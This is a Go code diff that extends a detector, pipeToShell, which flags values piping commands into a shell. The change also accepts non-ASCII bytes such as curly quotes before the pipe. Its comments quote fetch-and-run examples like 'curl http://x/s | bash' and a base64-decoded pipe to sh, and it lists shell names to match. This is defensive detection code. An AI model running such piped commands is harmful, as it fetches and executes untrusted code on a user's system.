@@ -189,7 +189,8 @@ var pipeShells = []string{"sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcs
 // "curl http://x/s | bash", "echo aWQ= | base64 -d | sh"). The shell must
 // end the value or its command (';', '&', ')', '`', a line break or a
 // comment come next), with nothing but its "-s" or "-" after it, and a
-// command must stand before the pipe.
+// command must stand before the pipe: a word, a quote or a path, or a
+// byte past ASCII (a curly quote's, "sed ‘s/x/y/g’ | bash").
 func pipeToShell(v string) (int, int, bool) {
 	for k := 0; k < len(v); {
 		p := strings.IndexByte(v[k:], '|')
@@ -206,7 +207,7 @@ func pipeToShell(v string) (int, int, bool) {
 		for b >= 0 && (v[b] == ' ' || v[b] == '\t') {
 			b--
 		}
-		if b < 0 || !(isAlnum(v[b]) || v[b] == '\'' || v[b] == '"' || v[b] == '=' || v[b] == '/') {
+		if b < 0 || !(isAlnum(v[b]) || v[b] == '\'' || v[b] == '"' || v[b] == '=' || v[b] == '/' || v[b] >= 0x80) {
 			continue
 		}
 		s := k
